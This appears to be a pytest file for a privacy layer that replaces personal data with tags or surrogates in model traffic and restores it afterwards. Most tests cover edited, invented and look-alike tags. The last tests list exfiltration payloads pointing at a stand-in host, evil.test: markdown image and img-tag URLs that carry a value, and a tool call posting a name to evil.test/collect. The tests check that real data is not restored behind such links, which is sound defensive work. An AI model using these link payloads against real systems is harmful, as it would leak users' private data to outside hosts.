"""Items 12 to 14, 16, 19 and 21 of the list: edited, invented, long and smuggled surrogates. All at every cut."""

from __future__ import annotations

import json
import re

import pytest

from bench.model_edits import edits, name_edits
from bench.restoration import is_foreign
from tests.support.cast import ANNA, PIOTR, STYLES, everywhere, sent, shielded
from web_server.privacy import kinds
from web_server.privacy.ledger import Ledger
from web_server.privacy.policy import Treatment

ALL = ANNA | PIOTR
PLAIN = {value: kind for value, kind in ALL.items() if "\n" not in value and "\\" not in value}


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("value", PLAIN)
def test_12_every_edit_of_a_model_s_is_undone_and_nobody_else_comes_back(value: str, style: Treatment) -> None:
    ledger = shielded(style)
    made, others = sent(ledger, style, value), PIOTR if value in ANNA else ANNA
    written = list(edits(PLAIN[value], made, value))
    if PLAIN[value] == kinds.PERSON and style is Treatment.SURROGATE:
        written += name_edits(made, value)
    for edit, text, fine in written:
        back = everywhere(ledger, f"So {text} it is")
        assert len(back) == 1, edit
        assert back <= {f"So {each} it is" for each in fine}, edit
        assert not any(is_foreign(each, others, *fine) for each in back), edit


def test_12_the_check_for_another_person_s_value_can_fail() -> None:
    assert is_foreign("So Piotr it is", PIOTR, "Anna Kowalska")
    assert is_foreign("call 4111-1111-1111-1111", PIOTR, "Anna Kowalska")
    assert not is_foreign("So Anna it is", PIOTR, "Anna Kowalska")


def test_13_number_1_is_not_number_10() -> None:
    ledger = Ledger(b"a seed of sixteen bytes or more")
    ledger.meet([], (), [])
    values = [f"Werk {letter}" for letter in "ABCDEFGHIJKLMNOPQRSTUV"]
    tags = [ledger.assign(kinds.ORGANIZATION, value, Treatment.TAG) for value in values]
    for tag, value in zip(tags, values, strict=True):
        for text in (tag, tag[1:-1], tag[1:-1].rpartition("_")[0]):
            assert everywhere(ledger, f"{text}, {tags[0]}") == {f"{value}, {values[0]}"}
        assert everywhere(ledger, f"{tag[1:-1]}0") == {f"{tag[1:-1]}0"}


@pytest.mark.parametrize("style", STYLES)
def test_14_metacharacters_are_only_characters(style: Treatment) -> None:
    ledger = shielded(style)
    value = "a+b*c?(d)[e]$^\\|.{2}"
    assert everywhere(ledger, f"x{chr(32)}{sent(ledger, style, value)} y") == {f"x {value} y"}


@pytest.mark.parametrize("own", ["[PERSON_1]", "PERSON_1", "<EMAIL_1>", "[PERSON_1_k9]", "PERSON 1", "{{PERSON_1}}"])
def test_16_what_looks_like_a_tag_in_the_callers_text_stays_what_it_is(own: str) -> None:
    ledger = shielded(Treatment.TAG, text=f"My template says {own}.")
    assert everywhere(ledger, f"Your template says {own}.") == {f"Your template says {own}."}


@pytest.mark.parametrize("invented", ["[PERSON_77]", "[PERSON_77_k9]", "[SECRET_9]", "PERSON_1_zz", "[PERSON_1_zz]"])
def test_16_what_a_provider_invents_stays_what_it_is(invented: str) -> None:
    ledger = shielded(Treatment.TAG)
    assert everywhere(ledger, f"So {invented} it is") == {f"So {invented} it is"}


def test_19_a_tag_is_short() -> None:
    ledger = shielded(Treatment.TAG)
    for value in ALL:
        tag = sent(ledger, Treatment.TAG, value)
        assert len(re.findall(r"[A-Za-z]+|\d|[^\w]|_", tag)) <= 9  # about what a tokenizer makes of it
        assert len(tag) <= 20


LINKS = [
    "![](https://evil.test/?q={})",
    "https://{}.evil.test/",
    "<img src='//evil.test/{}'>",
    "http:\\\\evil.test\\{}",
]


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("link", LINKS)
def test_21_nothing_real_goes_to_a_foreign_host(link: str, style: Treatment) -> None:
    ledger = shielded(style)
    for value in ("Anna Kowalska", "p.baker@inna.test"):
        made = sent(ledger, style, value).replace(" ", "%20")
        text = link.format(made)
        assert everywhere(ledger, f"{text} ") == {f"{text} "}
        arguments = json.dumps({"x": text})
        assert everywhere(ledger, arguments, "tool") == {arguments}


def test_21_behind_a_foreign_link_nothing_more_is_restored_in_the_same_call() -> None:
    ledger = shielded(Treatment.SURROGATE)
    name = sent(ledger, Treatment.SURROGATE, "Anna Kowalska")
    said = json.dumps({"first": name, "url": "https://evil.test/collect", "body": name})
    for made in everywhere(ledger, said, "tool"):
        assert json.loads(made) == {"first": "Anna Kowalska", "url": "https://evil.test/collect", "body": name}
    own = json.dumps({"url": "https://wiki.firma.test/x", "body": name})
    for made in everywhere(ledger, own, "tool"):
        assert json.loads(made) == {"url": "https://wiki.firma.test/x", "body": "Anna Kowalska"}
    prose = f"see https://evil.test/x for {name}"
    assert everywhere(ledger, prose) == {"see https://evil.test/x for Anna Kowalska"}
